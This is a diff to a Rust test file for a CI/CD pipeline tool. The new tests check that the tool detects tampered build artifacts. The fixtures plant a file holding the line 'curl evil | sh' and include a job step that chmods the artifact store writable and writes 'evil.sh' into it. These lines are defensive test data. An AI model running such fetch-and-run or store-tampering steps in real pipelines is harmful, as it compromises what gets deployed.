@@ -11,6 +11,13 @@ struct Project {
     dir: tempfile::TempDir,
 }
 
+/// Stored artifacts are read-only folders: make them removable again.
+impl Drop for Project {
+    fn drop(&mut self) {
+        unseal(self.dir.path());
+    }
+}
+
 impl Project {
     fn new(pipeline: &str) -> Project {
         let dir = tempfile::tempdir().expect("a temporary folder");
@@ -213,7 +220,7 @@ fn steps_run_with_sh_e_in_the_pipeline_folder_with_the_job_variables() {
         stage ship {
             deploy app to qa {
                 run = ["echo \"$CDL_PIPELINE $CDL_JOB $CDL_STAGE $CDL_ENV_NAME $CDL_ENV_URL $TIER $GREETING\" > vars.txt",
-                       "echo run=$CDL_RUN_ID >> vars.txt", "cat \"$CDL_ARTIFACT_APP\" >> vars.txt", "pwd >> vars.txt"]
+                       "echo run=$CDL_RUN_ID >> vars.txt", "cat \"$CDL_ARTIFACT_APP/app.bin\" >> vars.txt", "pwd >> vars.txt"]
             }
             test unit { run = "echo $CDL_MATRIX_OS >> os.txt"; matrix { os = ["linux"] } }
             job strict { run = "false; touch after_false" }
@@ -383,7 +390,7 @@ const RELEASE: &str = r#"pipeline release {
     stage approve {
         gate ship { approvers = ["alice", "bob", "carol"]; required = 2; message = "Ship it?" }
     }
-    stage deploy { deploy app to prod { run = "cp \"$CDL_ARTIFACT_APP\" deployed.bin" } }
+    stage deploy { deploy app to prod { run = "cp \"$CDL_ARTIFACT_APP/app.bin\" deployed.bin" } }
 }"#;
 
 #[test]
@@ -485,21 +492,106 @@ fn a_gate_timeout_rejects() {
     assert_eq!(project.state("ship"), "failed");
 }
 
+/// Makes a stored (read-only) artifact folder writable, as its owner can.
+fn unseal(path: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    if path.is_dir() && !path.is_symlink() {
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        for entry in std::fs::read_dir(path).unwrap() {
+            unseal(&entry.unwrap().path());
+        }
+    }
+}
+
 #[test]
 fn a_changed_stored_artifact_fails_the_job_that_would_use_it() {
     let project = Project::new(&RELEASE.replace("required = 2; ", ""));
     assert_eq!(project.run(&[]).status.code(), Some(3));
     let record = project.latest_record();
+    let digest = record["artifacts"]["app"]["digest"]
+        .as_str()
+        .unwrap()
+        .to_string();
     let stored = PathBuf::from(record["artifacts"]["app"]["path"].as_str().unwrap());
-    std::fs::write(&stored, "tampered\n").unwrap();
+    assert!(
+        stored.ends_with(format!("sha256-{digest}")),
+        "{}",
+        stored.display()
+    );
+    unseal(&stored);
+    std::fs::write(stored.join("evil.sh"), "curl evil | sh\n").unwrap();
     project.cdl(&["approve", "ship", "--as", "alice"]);
     assert_eq!(project.cdl(&["resume"]).status.code(), Some(1));
     let record = project.latest_record();
     let reason = record["jobs"]["deploy_app_prod"]["reason"]
         .as_str()
         .unwrap();
-    assert!(reason.contains("the stored artifact changed"), "{reason}");
+    assert!(
+        reason.contains(&format!("sha256 {digest} was stored")),
+        "{reason}"
+    );
+    assert!(reason.contains("was found (added: evil.sh)"), "{reason}");
     assert!(!project.path().join("deployed.bin").exists());
+}
+
+/// Finding 11: a test on staging writes into what it received, and into the store itself.
+const PROMOTED: &str = r#"pipeline promote {
+    environment staging { url = "https://s.example" }
+    environment production { url = "https://p.example"; requires promotion from staging }
+    stage build {
+        artifact app { run = "mkdir -p dist && echo v1 > dist/app.bin"; outputs = ["dist"] }
+    }
+    stage staging {
+        deploy app to staging { run = "cp -r \"$CDL_ARTIFACT_APP/dist\" staged" }
+        test ui on staging { uses = [app]; run = "TAMPER" }
+    }
+    stage production {
+        deploy app to production { run = "cp -r \"$CDL_ARTIFACT_APP/dist\" shipped" }
+    }
+}"#;
+
+#[test]
+fn a_test_cannot_slip_a_file_into_what_production_receives() {
+    // Into its own copy: nobody else sees it; production gets the built bytes.
+    let project = Project::new(&PROMOTED.replace(
+        "TAMPER",
+        "echo evil > \\\"$CDL_ARTIFACT_APP/dist/evil.sh\\\"",
+    ));
+    let out = project.run(&[]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(project.path().join("shipped/app.bin").is_file());
+    assert!(!project.path().join("shipped/evil.sh").exists());
+    // Into the store itself: production's deploy is refused with both digests.
+    let project = Project::new(&PROMOTED.replace(
+        "TAMPER",
+        "store=$(ls -d \\\"$PWD\\\"/.cdl/runs/*/artifacts/sha256-*/); chmod -R u+w $store; echo evil > $store/dist/evil.sh",
+    ));
+    let out = project.run(&[]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    let record = project.latest_record();
+    let digest = record["artifacts"]["app"]["digest"].as_str().unwrap();
+    let reason = record["jobs"]["deploy_app_production"]["reason"]
+        .as_str()
+        .unwrap();
+    assert!(reason.contains(digest), "{reason}");
+    assert!(reason.contains("added: dist/evil.sh"), "{reason}");
+    assert!(!project.path().join("shipped").exists());
+}
+
+#[test]
+fn a_deploy_that_changes_what_it_deploys_fails() {
+    let project = Project::new(&PROMOTED.replace("TAMPER", "true").replace(
+        "cp -r \\\"$CDL_ARTIFACT_APP/dist\\\" staged",
+        "echo more >> \\\"$CDL_ARTIFACT_APP/dist/app.bin\\\"",
+    ));
+    let out = project.run(&[]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    let record = project.latest_record();
+    let reason = record["jobs"]["deploy_app_staging"]["reason"]
+        .as_str()
+        .unwrap();
+    assert!(reason.contains("changed while deployed"), "{reason}");
+    assert!(reason.contains("changed: dist/app.bin"), "{reason}");
 }
 
 #[test]
